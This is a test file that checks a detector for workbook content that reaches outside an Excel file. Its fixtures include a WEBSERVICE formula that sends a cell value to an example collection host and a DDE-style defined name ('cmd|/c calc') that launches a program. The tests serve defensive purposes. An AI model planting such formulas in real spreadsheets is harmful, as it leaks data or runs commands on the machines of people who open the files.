import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { type ReachOut } from '../../../../register/store';
import { Spent } from '../../../../sync/stores/excel/bounds';
import { outsideCheck } from '../../../../sync/stores/excel/reach-out';
import { readCut } from '../../../../sync/stores/excel/read-cut';
import { buildWorkbook } from '../../../../sync/stores/excel/template';
import { demoOrg } from '../../box';

const [guide, northshire] = ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml'];
const lists = `xl/worksheets/sheet${demoOrg.regions.length + 3}.xml`;
const workbook = 'xl/workbook.xml';
const workbookRelations = 'xl/_rels/workbook.xml.rels';

let template: Uint8Array;
beforeAll(async () => {
  template = await buildWorkbook(demoOrg);
});

type Edits = Record<string, (xml: string) => string>;

function reachesOut(edits: Edits): ReachOut[] | undefined {
  const parts = unzipSync(template);
  for (const [path, edit] of Object.entries(edits))
    parts[path] = strToU8(edit(strFromU8(parts[path] ?? new Uint8Array())));
  return readCut(zipSync(parts), demoOrg, 'tag').reachesOut;
}

const outside = 'WEBSERVICE("https://collect.caseworkcharity.example/"&amp;H2)';
const withRow = (row: string) => (xml: string) => xml.replace('</sheetData>', `${row}</sheetData>`);
const cell = (at: string, formula = outside) => `<c r="${at}" t="str"><f>${formula}</f><v>x</v></c>`;
const relation = (type: string) => (xml: string) =>
  xml.replace('</Relationships>', `<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="some/part.xml"/></Relationships>`); // prettier-ignore
const named = (formula: string) => (xml: string) =>
  xml.replace('</workbook>', `<definedNames><definedName name="n">${formula}</definedName></definedNames></workbook>`); // prettier-ignore

describe('what in a workbook reaches outside it', () => {
  it('STO21 tells nothing of a workbook that keeps to itself', () => {
    expect(reachesOut({})).toBeUndefined();
    expect(
      reachesOut({ [guide]: withRow(`<row r="90">${cell('B90', 'SUM(A1:A2)')}</row>`) }),
    ).toBeUndefined();
    expect(reachesOut({ [workbook]: named("'Guide'!$A$1") })).toBeUndefined();
  });

  it.each([
    ['the guide', guide, 'F90', 1],
    ['a hidden worksheet', lists, 'AA7', demoOrg.regions.length + 3],
    ['a region’s worksheet, beside the table', northshire, 'ZZ3', 2],
  ])('STO21 tells a formula on %s, by the worksheet’s place and the cell', (_, path, at, sheet) => {
    const row = `<row r="${/\d+/.exec(at)?.[0]}">${cell(at)}</row>`;

    expect(reachesOut({ [path]: withRow(row) })).toEqual([{ kind: 'formula', sheet, cell: at }]);
  });

  it('STO21 does not tell a line again that tells itself', () => {
    const line = `<row r="2"><c r="A2" t="inlineStr"><is><t>NS-2026-0001</t></is></c>${cell('AB2')}</row>`;

    expect(
      reachesOut({ [northshire]: (xml) => xml.replace(/<row r="2"[\s\S]*?<\/row>/, line) }),
    ).toBeUndefined();
  });

  it('STO21 tells one that was typed over a formula of the service', () => {
    const line = `<row r="2"><c r="A2" t="inlineStr"><is><t>NS-2026-0001</t></is></c>${cell('C2')}</row>`;

    expect(reachesOut({ [northshire]: (xml) => xml.replace(/<row r="2"[\s\S]*?<\/row>/, line) })).toEqual([
      { kind: 'formula', sheet: 2, cell: 'C2' },
    ]);
  });

  it('STO21 tells a formula behind a drop-down or a colour, which has no cell', () => {
    const rule = `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>${outside}</formula></cfRule></conditionalFormatting>`;

    expect(reachesOut({ [guide]: (xml) => xml.replace('</sheetData>', `</sheetData>${rule}`) })).toEqual([
      { kind: 'formula', sheet: 1, cell: null },
    ]);
  });

  it.each([
    ['a link to another file or program', { [workbookRelations]: relation('externalLink') }, 'link'],
    ['a connection to data', { [workbookRelations]: relation('connections') }, 'connection'],
    ['a defined name', { [workbook]: named("cmd|'/c calc'!A1") }, 'name'],
  ])('STO21 tells %s', (_, edits, kind) => {
    expect(reachesOut(edits)).toEqual([{ kind, sheet: null, cell: null }]);
  });

  it('STO12 looks at each different formula once, and takes one nobody could have typed for one that reaches out', () => {
    const spent = new Spent();
    const isOutside = outsideCheck(spent);

    for (let time = 0; time < 1000; time += 1) expect(isOutside(`A1+${'1+'.repeat(1000)}1`)).toBe(false);

    expect(spent.of('formulas')).toBe(2004);
    expect(isOutside('a'.repeat(30_000))).toBe(true);
    expect(isOutside('1+'.repeat(40_000))).toBe(true);
  });
});
